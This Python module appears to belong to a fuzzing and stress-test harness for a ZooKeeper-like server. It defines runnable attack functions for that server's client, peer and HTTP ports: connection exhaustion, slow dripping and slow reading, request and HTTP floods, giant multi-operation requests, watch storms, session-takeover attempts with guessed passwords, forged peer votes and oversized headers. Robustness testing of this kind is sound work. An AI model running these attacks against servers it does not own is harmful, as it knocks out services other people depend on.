"""The kinds of attack. Each is a function that takes an `Attack` of hostile.py and attacks until its time is over.
`run.py --only` takes the function's name, and `run.py --list` shows its docstring."""

import struct
from dataclasses import dataclass
from typing import Callable

import frames
from frames import BIG, HOME, framed, named, request

CLIENT, ELECTION, QUORUM, ADMIN, METRICS = "client", "election", "quorum", "admin", "metrics"
ALL = (CLIENT, ELECTION, QUORUM, ADMIN, METRICS)
HTTP = (ADMIN, METRICS)
PEERS = (ELECTION, QUORUM)


@dataclass(frozen=True)
class Kind:
    name: str
    ports: tuple
    function: Callable


KINDS = []


def kind(*ports):
    def add(function):
        KINDS.append(Kind(function.__name__, ports, function))
        return function
    return add


# --- on every port ---

@kind(*ALL)
def other_protocols(attack):
    """HTTP, TLS, SSH and other protocols, mostly on ports that do not speak them."""
    while attack.more():
        sock = attack.connect()
        if sock:
            attack.send_in_pieces(sock, attack.random.choice(frames.OTHERS))
            attack.end(sock)


@kind(*ALL)
def random_bytes(attack):
    """Random bytes."""
    while attack.more():
        sock = attack.connect()
        if sock:
            attack.send_in_pieces(sock, attack.random.randbytes(attack.random.randrange(1, 5000)))
            attack.end(sock)


@kind(*ALL)
def reconnects(attack):
    """Connections, as fast as possible, that send nothing or a few bytes, and end."""
    while attack.more():
        sock = attack.connect()
        if sock:
            if attack.random.randrange(2):
                attack.send(sock, good_bytes(attack)[:attack.random.randrange(1, 60)])
            (attack.drop if attack.random.randrange(2) else attack.close)(sock)


@kind(*ALL)
def crowd(attack):
    """Connections that send nothing or a part of a request, until there are more than the server's open files allow."""
    while attack.more():
        sock = attack.connect()
        if sock and attack.random.randrange(2):
            attack.send(sock, good_bytes(attack)[:attack.random.randrange(1, 20)])
        if len(attack.sockets) >= 1200:
            attack.pause(1)
            attack.end_all()


@kind(*ALL)
def dripping(attack):
    """Valid bytes, one at a time, on many connections."""
    socks = attack.several(attack.random.choice((20, 70, 200)))
    said = [(sock, good_bytes(attack)) for sock in socks]
    at = 0
    while attack.more():
        for sock, data in said:
            attack.send_some(sock, data[at:at + 1])
        at += 1
        attack.pause(0.05)


@kind(*ALL)
def half_said(attack):
    """Valid bytes that break off anywhere. The connections stay open for a while."""
    while attack.more():
        sock = attack.connect()
        if sock:
            data = good_bytes(attack)
            attack.send(sock, data[:attack.random.randrange(len(data))])
        if len(attack.sockets) >= 150:
            attack.pause(0.3)
            for sock in attack.sockets[:100]:
                attack.end(sock) if attack.random.randrange(20) == 0 else attack.close(sock)


def good_bytes(attack):
    """Returns bytes with which a valid connection to the attacked port may begin."""
    if attack.port == CLIENT:
        if attack.random.randrange(8) == 0:
            return attack.random.choice(frames.WORDS)
        several = attack.random.choices(attack.requests, k=4)
        return frames.connect() + b"".join(framed(one) for one in several)
    if attack.port == ELECTION:
        return b"".join(frames.elector())
    if attack.port == QUORUM:
        return b"".join(frames.learner(attack.random.choice((frames.FOLLOWER_INFO, frames.OBSERVER_INFO))))
    return http_request(attack)


# --- on client ports ---

@kind(CLIENT)
def mutated_frames(attack):
    """Requests of every operation, valid and changed ones, sent in pieces."""
    chance = attack.random
    while attack.more():
        first = frames.connect(chance.choice((500, 4000)))
        if chance.randrange(4) == 0:
            first = framed(frames.mutate(chance, chance.choice(attack.connects), attack.connects))
        said = [first]
        for _ in range(chance.randrange(48)):
            choice = chance.randrange(200)
            if choice == 0:
                said.append(frames.misframed(chance, frames.bad_request(chance, attack.requests)))
            elif choice == 1:
                said.append(framed(chance.choice(attack.connects)))
            elif choice < 40:
                said.append(framed(chance.choice(attack.requests)))
            else:
                said.append(framed(frames.bad_request(chance, attack.requests)))
        data = b"".join(said)
        if chance.randrange(8) == 0:
            data = data[:chance.randrange(len(data))]
        sock = attack.connect()
        if sock:
            attack.send_in_pieces(sock, data)
            attack.end(sock)


@kind(CLIENT)
def malformed_writes(attack):
    """Writes whose bodies cannot be decoded, with a read behind them. The connection ends at once, or stays open."""
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        data = frames.connect()
        for xid in range(1, attack.random.randrange(2, 6)):
            body = attack.random.choice((b"", b"\0\0", b"\xff" * 4, attack.random.randbytes(30)))
            data += framed(request(xid, attack.random.choice(frames.WRITES), body))
        attack.send(sock, data + framed(named(9, "getData", path="/", watch=False)))
        if attack.random.randrange(2):
            attack.close(sock)
        elif len(attack.sockets) > 100:
            for held in list(attack.sockets):
                attack.close(held)


@kind(CLIENT)
def flood(attack):
    """Small requests, a thousand at a time. The answers are read as they come."""
    socks = attack.several(attack.random.choice((1, 4, 16)), attack.session)
    some = [frame for frame in attack.requests if struct.unpack(">i", frame[4:8])[0] in (3, 4, 5, 8, 9, 11, 12)]
    data = b"".join(framed(frame) for frame in attack.random.choices(some, k=1000))
    left = dict.fromkeys(socks, memoryview(data))
    while attack.more() and left:
        left = {sock: rest for sock, rest in left.items() if attack.drain(sock)}
        taken = {sock: attack.send_some(sock, rest) for sock, rest in left.items()}
        for sock, count in taken.items():
            left[sock] = left[sock][count:] or memoryview(data)
        if not any(taken.values()):
            attack.pause(0.01)


@kind(CLIENT)
def slow_reader(attack):
    """Many requests with large answers, which are read a little at a time."""
    socks = attack.several(attack.random.choice((2, 10, 30)), attack.session)
    reads = b"".join(framed(named(xid, "getData", path=BIG, watch=False)) for xid in range(1, 300))
    for sock in socks:
        attack.send_some(sock, reads)
    while attack.more():
        for sock in socks:
            sock.settimeout(0.01)
            attack.receive(sock, 2000)
        attack.pause(0.05)


@kind(CLIENT)
def giant_answers(attack):
    """Small multiReads with answers of up to gigabytes, which are read or not."""
    reads = [("getData", {"path": BIG, "watch": False})] * attack.random.choice((50, 500, 2000))
    asked = framed(request(1, frames.MULTI_READ, frames.multi_body(reads)))
    while attack.more():
        socks = attack.several(attack.random.choice((1, 3, 8)), attack.session)
        for sock in socks:
            attack.send(sock, asked * attack.random.choice((1, 1, 5)))
        reading = attack.random.randrange(2)
        for _ in range(20):
            if reading:
                socks = [sock for sock in socks if attack.drain(sock)]
            attack.pause(0.05)
        for sock in socks:
            attack.drop(sock) if attack.random.randrange(2) else attack.close(sock)


@kind(CLIENT)
def giant_multis(attack):
    """Multis of up to 12,000 operations, of which the last one fails."""
    parts = [("setData", {"path": HOME, "data": b"", "version": -1})] * attack.random.choice((100, 3000, 12000))
    failing = [*parts, ("check", {"path": f"{HOME}/nope", "version": 0})]
    asked = framed(request(1, frames.MULTI, frames.multi_body(failing)))
    while attack.more():
        sock = attack.session()
        if sock:
            for _ in range(attack.random.choice((1, 3))):
                attack.send(sock, asked)
            attack.end(sock)
        attack.pause(0.1)


@kind(CLIENT)
def parked_requests(attack):
    """A write, and behind it on the same session as many read requests of 0.9 MB each as the server takes."""
    large = framed(named(2, "getData", path=f"{HOME}/" + "x" * frames.BIG_BYTES, watch=False))
    while attack.more():
        for sock in attack.several(attack.random.choice((1, 3)), attack.session):
            attack.send(sock, framed(named(1, "setData", path=HOME, data=b"", version=-1)))
            for _ in range(100):
                if attack.send_some(sock, large) < len(large):
                    break
        attack.pause(0.3)
        attack.end_all()


@kind(CLIENT)
def large_writes(attack):
    """Writes of 0.9 MB to one node, again and again, but no faster than a disk can take them."""
    data = framed(named(1, "setData", path=HOME, data=b"x" * frames.BIG_BYTES, version=-1))
    sock = attack.session()
    while attack.more() and sock:
        attack.send(sock, data * 3)
        attack.drain(sock)
        attack.pause(0.5)


@kind(CLIENT)
def watches(attack):
    """Thousands of watches on many sessions, and writes that trigger them. The events are not read."""
    chance = attack.random
    paths = [f"{HOME}/w{number}" for number in range(3000)]
    fields = {key: paths for key in ("exist", "persistent")}
    all_of_them = named(-8, "setWatches2", relativeZxid=0, data=[], child=[], recursive=[HOME], **fields)
    socks = attack.several(chance.choice((3, 20)), attack.session)
    for sock in socks:
        attack.send(sock, framed(all_of_them))
    number = 0
    while attack.more() and socks:
        number += 1
        path = f"{HOME}/w{chance.randrange(3000)}"
        writes = [named(1, "create", path=path, data=b"", acl=frames.OPEN_ACL, flags=1),
                  named(2, "delete", path=path, version=-1)]
        sock = chance.choice(socks)
        if attack.send_some(sock, b"".join(framed(one) for one in writes)) == 0:
            socks.remove(sock)
        attack.pause(0.005)


@kind(CLIENT)
def four_letter_words(attack):
    """Four-letter words, known, unknown and incomplete ones. The answers are read or not."""
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        attack.send(sock, attack.random.choice(frames.WORDS) * attack.random.choice((1, 1, 1, 500)))
        if attack.random.randrange(4):
            attack.end(sock)
        elif len(attack.sockets) > 200:
            for held in attack.sockets[:100]:
                attack.close(held)


@kind(CLIENT)
def stolen_sessions(attack):
    """ConnectRequests for sessions that do not exist or that another connection has, with right and wrong passwords."""
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        attack.send(sock, frames.connect())
        answer = attack.receive(sock, 41)
        # No session of an honest client is used: see README.md.
        session, password = struct.unpack(">q", answer[12:20])[0] if len(answer) == 41 else 7, answer[24:40]
        for _ in range(attack.random.randrange(1, 6)):
            other = attack.connect()
            if other:
                asked = attack.random.choice((session, session, attack.random.getrandbits(62)))
                attack.send(other, frames.connect(4000, asked, attack.random.choice((password, bytes(16)))))
                attack.send(other, framed(named(1, "setData", path=HOME, data=b"", version=-1)))
        if len(attack.sockets) > 60:
            for held in list(attack.sockets):
                attack.end(held) if attack.random.randrange(10) == 0 else attack.close(held)


@kind(CLIENT)
def sessions_that_end(attack):
    """Sessions with ephemeral nodes, which expire, are closed, or are used while they end."""
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        data = frames.connect(attack.random.choice((1, 500, 4000)))
        for xid in range(1, 6):
            data += framed(named(xid, "create", path=f"{HOME}/e-", data=b"", acl=frames.OPEN_ACL, flags=3))
        if attack.random.randrange(3) == 0:
            data += framed(request(7, -11)) + framed(named(8, "setData", path=HOME, data=b"", version=-1))
        attack.send(sock, data)
        if attack.random.randrange(4):
            attack.end(sock)
        elif len(attack.sockets) > 100:
            attack.end_all()


@kind(CLIENT)
def wrong_passwords(attack):
    """Authentication that fails, in all schemes, with little or much data."""
    chance = attack.random
    while attack.more():
        sock = attack.session()
        for _ in range(100 if sock else 0):
            scheme = chance.choice(("digest", "ip", "x509", "sasl", "", "nonsense", "s" * 5000))
            auth = named(-4, "auth", type=0, scheme=scheme, auth=chance.randbytes(chance.choice((0, 5, 5000))))
            sasl = request(5, 102, framed(chance.randbytes(chance.choice((0, 20, 5000)))))
            if not attack.send(sock, framed(chance.choice((auth, auth, sasl)))):
                break
        if sock:
            attack.end(sock)


# --- on the ports of peers. No greeting has a member's id: see README.md. ---

@kind(*PEERS)
def bad_peers(attack):
    """Greetings, votes and a learner's packets from a server that is no member, changed and out of order."""
    chance = attack.random
    election = attack.port == ELECTION
    while attack.more():
        if election:
            said = frames.elector()
        else:
            said = frames.learner(chance.choice((frames.FOLLOWER_INFO, frames.OBSERVER_INFO)))
        others = list(said)
        said += chance.choices(others[1:], k=chance.randrange(40))
        said = [one if chance.randrange(6) else mutated_peer(attack, one, others, election) for one in said]
        if chance.randrange(4) == 0:
            one, other = chance.randrange(len(said)), chance.randrange(len(said))
            said[one], said[other] = said[other], said[one]
        data = b"".join(said)
        if chance.randrange(4) == 0:
            data = data[:chance.randrange(len(data))]
        sock = attack.connect()
        if sock:
            attack.send_in_pieces(sock, data)
            attack.end(sock)


def mutated_peer(attack, one, others, election):
    """Returns a changed message. In a greeting, the id is one of a few that no member has, because a random change
    could make it a member's."""
    if one is not others[0]:
        return frames.mutate(attack.random, one, others[1:])
    # The offset of the id.
    at = 8 if election else 16
    changed = bytearray(frames.mutate(attack.random, one, others))
    changed[at:at + 8] = struct.pack(">q", attack.random.choice((frames.STRANGER, -5, 0, (1 << 63) - 1)))
    return bytes(changed)


@kind(*PEERS)
def peers_that_stop(attack):
    """Greetings, and then nothing or many packets. What the server sends is not read."""
    chance = attack.random
    election = attack.port == ELECTION
    while attack.more():
        sid = chance.randrange(frames.STRANGER, frames.STRANGER + 50)
        if election:
            said, more = [frames.greeting(sid)], frames.notification(chance.choice((0, -9)))
        else:
            said = frames.learner(chance.choice((frames.FOLLOWER_INFO, frames.OBSERVER_INFO)), sid)[:4]
            more = frames.packet(chance.choice((3, 5, 1, 4, 77)), 1 << 40)
        sock = attack.connect()
        if sock:
            attack.send(sock, b"".join(said[:chance.randrange(1, len(said) + 1)]))
            if chance.randrange(2):
                attack.send_some(sock, more * 500)
        if len(attack.sockets) > 100:
            attack.pause(0.5)
            attack.end_all()


# --- on the ports that speak HTTP ---

def http_request(attack):
    chance = attack.random
    path = "/metrics" if attack.port == METRICS else "/commands/"
    path += chance.choice(frames.COMMANDS)
    body = b"x" * chance.choice((0, 0, 100))
    method = chance.choice(("GET", "GET", "GET", "POST", "HEAD", "BREW"))
    head = f"{method} {path} HTTP/1.{chance.randrange(2)}\r\nHost: localhost\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


@kind(*HTTP)
def bad_http(attack):
    """Changed HTTP requests."""
    chance = attack.random
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        data = http_request(attack)
        for _ in range(chance.randrange(4)):
            data = frames.mutate(chance, data, [data])
        attack.send_in_pieces(sock, data * chance.choice((1, 1, 20)))
        attack.end(sock)


@kind(*HTTP)
def http_flood(attack):
    """Valid HTTP requests, one or many on each connection. The answers are read only after a pause."""
    while attack.more():
        for sock in attack.several(attack.random.choice((1, 10, 50))):
            attack.send_some(sock, http_request(attack) * attack.random.choice((1, 200)))
        attack.pause(0.2)
        for sock in list(attack.sockets):
            attack.drain(sock)
            attack.close(sock)


@kind(*HTTP)
def large_heads(attack):
    """Headers and request lines without an end, and bodies that are shorter than they say."""
    chance = attack.random
    while attack.more():
        sock = attack.connect()
        if sock is None:
            continue
        choice = chance.randrange(4)
        data = b"POST /commands/restore HTTP/1.1\r\nHost: x\r\n"
        if choice == 0:
            data += b"".join(b"x-%d: %s\r\n" % (n, b"y" * 1000) for n in range(500))
        elif choice == 1:
            data += b"Content-Length: 99999999999\r\n\r\n" + bytes(100_000)
        elif choice == 2:
            data += b"Transfer-Encoding: chunked\r\n\r\n" + b"fffffff\r\n" + bytes(100_000)
        else:
            data = b"GET /" + b"a" * 200_000
        attack.send_in_pieces(sock, data)
        if len(attack.sockets) > 50 or chance.randrange(2):
            attack.end(sock)
